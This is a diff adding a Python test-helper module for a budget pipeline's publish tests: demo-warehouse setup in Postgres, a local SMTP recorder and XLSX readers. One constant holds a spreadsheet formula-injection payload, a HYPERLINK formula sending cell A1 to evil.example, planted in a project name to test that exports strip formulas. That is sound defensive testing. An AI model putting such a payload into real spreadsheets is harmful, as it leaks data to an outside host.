@@ -1,0 +1,426 @@
+"""Shared pieces of the publish tests: a built warehouse of the calibrated demo year, a
+real SMTP server (aiosmtpd) on localhost, and readers of what it received.
+
+Names live here, not in conftest.py: test modules import this module by name.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import email
+import io
+import socket
+import sys
+import threading
+import zipfile
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from decimal import Decimal
+from email.message import EmailMessage
+from email.policy import default as default_policy
+from pathlib import Path
+from typing import Any
+
+import psycopg
+from aiosmtpd.controller import Controller
+
+from budgetperf.pipeline.context import RunContext
+from budgetperf.settings import Settings, load_settings
+from budgetperf.transform import dbt_build
+
+POINTS = [dt.date(2021, 6, 30), dt.date(2021, 9, 30), dt.date(2021, 11, 30), dt.date(2021, 12, 31)]
+JUNE, SEPTEMBER, NOVEMBER, YEAR_END = POINTS
+OFFICE = "jixiao@czj.pingluo.example"
+SENDER = "budgetperf@czj.pingluo.example"
+MALICIOUS_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+
+
+# -- the warehouse -------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class DemoYear:
+    template_url: str  # never connect to it from a test: copies are made from it
+    tweaks: dict[str, str]
+    landing: Path
+
+
+def settings_for(home: Path) -> Settings:
+    """Settings of an installation at ``home`` (no process environment involved)."""
+    return load_settings(
+        {
+            "BUDGETPERF_HOME": str(home),
+            "BUDGETPERF_PERFORMANCE_OFFICE_EMAIL": OFFICE,
+            "BUDGETPERF_SENDER_EMAIL": SENDER,
+        }
+    )
+
+
+def load_landing_into_raw(url: str, landing: Path) -> None:
+    """Put a delivery landing into raw.* and ops.loads as the loader would.
+
+    A bridge until the loader (issue 3) is merged: it reads the files with the
+    generator's independent read-back and writes one load per file. Then this becomes
+    ``budgetperf.ingest.loader.load_landing(url, landing, up_to=...)``.
+    """
+    generate_tests = Path(__file__).resolve().parents[1] / "generate"
+    if str(generate_tests) not in sys.path:
+        sys.path.insert(0, str(generate_tests))
+    from generate_readback import read_landing
+
+    from budgetperf.generate.entities import ENTITY_COLUMNS
+
+    landed = read_landing(landing)
+    with psycopg.connect(url) as conn:
+        for entity_file in landed.files:
+            entity = entity_file.entity
+            year_column = "budget_year" if entity == "budget_requests" else "fiscal_year"
+            years = (
+                [0]
+                if entity == "departments"
+                else sorted({int(r[year_column]) for r in entity_file.records})  # type: ignore[call-overload]
+            )
+            row = conn.execute(
+                """
+                insert into ops.loads
+                    (entity, as_of, file_path, sha256, bytes, status, rows_read, rows_loaded)
+                values (%s, %s, %s, 'bridge', 0, 'loaded', %s, %s) returning load_id
+                """,
+                (
+                    entity,
+                    entity_file.as_of,
+                    str(entity_file.path.relative_to(landing)),
+                    len(entity_file.records),
+                    len(entity_file.records),
+                ),
+            ).fetchone()
+            assert row is not None
+            load_id = row[0]
+            for year in years:
+                conn.execute(
+                    "insert into ops.load_fiscal_years values (%s, %s, %s)",
+                    (load_id, year, len(entity_file.records)),
+                )
+            columns = [c.name for c in ENTITY_COLUMNS[entity]]
+            with conn.cursor().copy(
+                f"copy raw.{entity} (load_id, line_no, {', '.join(columns)}) from stdin"
+            ) as copy:
+                for line_no, record in enumerate(entity_file.records, start=2):
+                    copy.write_row([load_id, line_no, *[record.get(c) for c in columns]])
+
+
+def register_points(url: str, points: list[dt.date]) -> None:
+    with psycopg.connect(url) as conn:
+        for point in points:
+            conn.execute(
+                """
+                insert into ops.checkpoint_runs (checkpoint_date, fiscal_year) values (%s, %s)
+                on conflict (checkpoint_date) do nothing
+                """,
+                (point, point.year),
+            )
+
+
+def build(url: str, home: Path) -> None:
+    dbt_build(settings_for(home), url, echo=False)
+
+
+def needing_department(url: str, point: dt.date, nth: int = 0) -> dict[str, Any]:
+    """The nth department (by code) with projects needing correction at the point."""
+    with psycopg.connect(url) as conn:
+        cursor = conn.execute(
+            """
+            select department_code, department_name, contact_email
+            from marts.rpt_department_progress
+            where checkpoint_date = %s and projects_needing_correction > 0
+            order by department_code offset %s limit 1
+            """,
+            (point, nth),
+        )
+        names = [c.name for c in cursor.description or []]
+        row = cursor.fetchone()
+    assert row is not None
+    return dict(zip(names, row, strict=True))
+
+
+def tweak_raw(url: str) -> dict[str, str]:
+    """Make the demo data carry what the tests need, in the raw layer (before dbt):
+    one department without a contact email, and a project named like a formula that
+    needs correction at 06-30, is a prior project of a 2022 request and has a published
+    target. Returns the codes chosen."""
+    with psycopg.connect(url) as conn:
+        project = conn.execute(
+            """
+            with june as (
+                select p.project_code, p.department_code
+                from raw.effective_projects as p
+                inner join raw.effective_budget_execution as e
+                    on e.checkpoint_date = p.checkpoint_date and e.project_code = p.project_code
+                where p.checkpoint_date = '2021-06-30' and p.fiscal_year = 2021
+                  and p.budget_amount_yuan > 0
+                group by p.project_code, p.department_code, p.budget_amount_yuan
+                having sum(e.amount_yuan) / p.budget_amount_yuan < 0.3
+            )
+            select june.project_code, june.department_code from june
+            where exists (
+                select from raw.budget_requests as r where r.prior_project_code = june.project_code
+            )
+            and not exists (
+                select from raw.performance_targets as t
+                where t.project_code = june.project_code and t.fiscal_year = 2021
+                  and not t.is_published
+            )
+            order by june.project_code limit 1
+            """
+        ).fetchone()
+        assert project is not None, "no lagging project with a request and published targets"
+        conn.execute(
+            "update raw.projects set project_name = %s where project_code = %s and fiscal_year = 2021",
+            (MALICIOUS_NAME, project[0]),
+        )
+        # a department needing correction at 06-30, other than the malicious one's
+        silent = conn.execute(
+            """
+            select p.department_code
+            from raw.effective_projects as p
+            inner join raw.effective_budget_execution as e
+                on e.checkpoint_date = p.checkpoint_date and e.project_code = p.project_code
+            where p.checkpoint_date = '2021-06-30' and p.fiscal_year = 2021
+              and p.budget_amount_yuan > 0 and p.department_code <> %s
+            group by p.project_code, p.department_code, p.budget_amount_yuan
+            having sum(e.amount_yuan) / p.budget_amount_yuan < 0.3
+            order by p.department_code desc limit 1
+            """,
+            (project[1],),
+        ).fetchone()
+        assert silent is not None
+        conn.execute(
+            "update raw.departments set contact_email = null where department_code = %s",
+            (silent[0],),
+        )
+    return {
+        "malicious_project": project[0],
+        "malicious_department": project[1],
+        "department_without_contact": silent[0],
+    }
+
+
+def correct_payment(url: str, as_of: dt.date, project_code: str, delta: Decimal) -> str:
+    """A corrected ``budget_execution`` file for the delivery ``as_of``: the same rows as
+    the effective load, with one payment of the project changed by ``delta``. Loaded as
+    a later load of the same as_of, it supersedes the first (DATA_CONTRACT.md 1).
+    Returns the record_id changed."""
+    with psycopg.connect(url) as conn:
+        old = conn.execute(
+            """
+            select load_id from ops.loads
+            where entity = 'budget_execution' and as_of = %s and status = 'loaded'
+            order by load_id desc limit 1
+            """,
+            (as_of,),
+        ).fetchone()
+        assert old is not None
+        record = conn.execute(
+            """
+            select record_id from raw.budget_execution
+            where load_id = %s and project_code = %s and payment_date <= %s
+            order by record_id limit 1
+            """,
+            (old[0], project_code, as_of),
+        ).fetchone()
+        assert record is not None, f"no payment of {project_code} in the {as_of} delivery"
+        new = conn.execute(
+            """
+            insert into ops.loads
+                (entity, as_of, file_path, sha256, bytes, status, rows_read, rows_loaded)
+            select entity, as_of, file_path, 'corrected', 0, 'loaded', rows_read, rows_loaded
+            from ops.loads where load_id = %s
+            returning load_id
+            """,
+            (old[0],),
+        ).fetchone()
+        assert new is not None
+        conn.execute(
+            """
+            insert into ops.load_fiscal_years
+            select %s, fiscal_year, rows_loaded from ops.load_fiscal_years where load_id = %s
+            """,
+            (new[0], old[0]),
+        )
+        conn.execute(
+            """
+            insert into raw.budget_execution
+            select %s, line_no, record_id, fiscal_year, project_code, payment_date,
+                   amount_yuan + case when record_id = %s then %s else 0 end, voucher_no, payee
+            from raw.budget_execution where load_id = %s
+            """,
+            (new[0], record[0], delta, old[0]),
+        )
+    return str(record[0])
+
+
+def clone_database(server_url: str, template_url: str, name: str) -> str:
+    """A copy of a built warehouse (CREATE DATABASE ... TEMPLATE): a second dbt build
+    costs 15 s, a copy well under one."""
+    from urllib.parse import urlsplit, urlunsplit
+
+    template = urlsplit(template_url).path.lstrip("/")
+    with psycopg.connect(server_url, autocommit=True) as conn:
+        conn.execute(f'create database "{name}" template "{template}"')
+    return urlunsplit(urlsplit(server_url)._replace(path="/" + name))
+
+
+def run_context(url: str, home: Path, point: dt.date, run_id: str | None = None) -> RunContext:
+    return RunContext(point, run_id or f"test__{point.isoformat()}", url, settings_for(home))
+
+
+def query(url: str, sql: str, params: Any = ()) -> list[dict[str, Any]]:
+    with psycopg.connect(url) as conn:
+        cursor = conn.execute(sql, params)
+        names = [c.name for c in cursor.description or []]
+        return [dict(zip(names, row, strict=True)) for row in cursor.fetchall()]
+
+
+# -- the SMTP server -----------------------------------------------------------------------
+
+
+@dataclass
+class Received:
+    mail_from: str
+    rcpt_tos: list[str]
+    raw: bytes
+
+    @property
+    def message(self) -> EmailMessage:
+        parsed = email.message_from_bytes(self.raw, policy=default_policy)
+        assert isinstance(parsed, EmailMessage)
+        return parsed
+
+    @property
+    def subject(self) -> str:
+        return str(self.message["Subject"])
+
+    @property
+    def message_id(self) -> str:
+        return str(self.message["Message-ID"])
+
+    def text(self) -> str:
+        part = self.message.get_body(preferencelist=("plain",))
+        assert part is not None
+        return str(part.get_content())
+
+    def html(self) -> str:
+        part = self.message.get_body(preferencelist=("html",))
+        assert part is not None
+        return str(part.get_content())
+
+    def attachments(self) -> dict[str, bytes]:
+        return {
+            str(part.get_filename()): bytes(part.get_content())
+            for part in self.message.iter_attachments()
+        }
+
+
+@dataclass
+class Recorder:
+    """An aiosmtpd handler that keeps every accepted message, and can be told to answer
+    "try later" (4xx) after some messages or to refuse a recipient for good (5xx)."""
+
+    messages: list[Received] = field(default_factory=list)
+    accept_limit: int | None = None
+    refused: set[str] = field(default_factory=set)
+    lock: threading.Lock = field(default_factory=threading.Lock)
+
+    async def handle_RCPT(  # noqa: N802 - aiosmtpd's hook name
+        self, server: Any, session: Any, envelope: Any, address: str, rcpt_options: Any
+    ) -> str:
+        if address in self.refused:
+            return "550 5.1.1 mailbox unavailable"
+        envelope.rcpt_tos.append(address)
+        return "250 OK"
+
+    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:  # noqa: N802
+        with self.lock:
+            if self.accept_limit is not None and len(self.messages) >= self.accept_limit:
+                return "451 4.3.0 mailbox busy, try again later"
+            self.messages.append(
+                Received(envelope.mail_from, list(envelope.rcpt_tos), bytes(envelope.content))
+            )
+        return "250 2.0.0 accepted"
+
+
+def free_port() -> int:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return int(probe.getsockname()[1])
+
+
+class SmtpServer:
+    """A real SMTP server on localhost that can be stopped and started on its port."""
+
+    def __init__(self, port: int | None = None) -> None:
+        self.port = port or free_port()
+        self.recorder = Recorder()
+        self._controller: Controller | None = None
+
+    def start(self) -> SmtpServer:
+        self._controller = Controller(self.recorder, hostname="127.0.0.1", port=self.port)
+        self._controller.start()
+        return self
+
+    def stop(self) -> None:
+        if self._controller is not None:
+            self._controller.stop()
+            self._controller = None
+
+    @property
+    def messages(self) -> list[Received]:
+        return self.recorder.messages
+
+    def airflow_connection(self) -> str:
+        """AIRFLOW_CONN_SMTP_DEFAULT for this server: plain SMTP, one quick retry."""
+        return (
+            '{"conn_type": "smtp", "host": "127.0.0.1", "port": %d, "extra": '
+            '{"disable_tls": true, "disable_ssl": true, "timeout": 5, "retry_limit": 1, '
+            '"retry_delay": 0}}' % self.port
+        )
+
+
+@contextmanager
+def smtp_server() -> Iterator[SmtpServer]:
+    server = SmtpServer().start()
+    try:
+        yield server
+    finally:
+        server.stop()
+
+
+# -- reading exports -----------------------------------------------------------------------
+
+
+def xlsx_formula_cells(data: bytes) -> list[str]:
+    """Every formula (``<f>``) in any sheet of an XLSX file."""
+    found = []
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
+                xml = archive.read(name).decode("utf-8")
+                if "<f>" in xml or "<f " in xml:
+                    found.append(name)
+    return found
+
+
+def sheet_rows(data: bytes, sheet: int = 0) -> list[list[Any]]:
+    from openpyxl import load_workbook
+
+    workbook = load_workbook(io.BytesIO(data))
+    worksheet = workbook.worksheets[sheet]
+    return [[cell.value for cell in row] for row in worksheet.iter_rows()]
+
+
+def wan(yuan: Decimal) -> Decimal:
+    """The test's own 万元 rounding (half away from zero), to compare with what we print."""
+    from decimal import ROUND_HALF_UP
+
+    return (Decimal(yuan) / 10000).quantize(Decimal("0.01"), ROUND_HALF_UP)
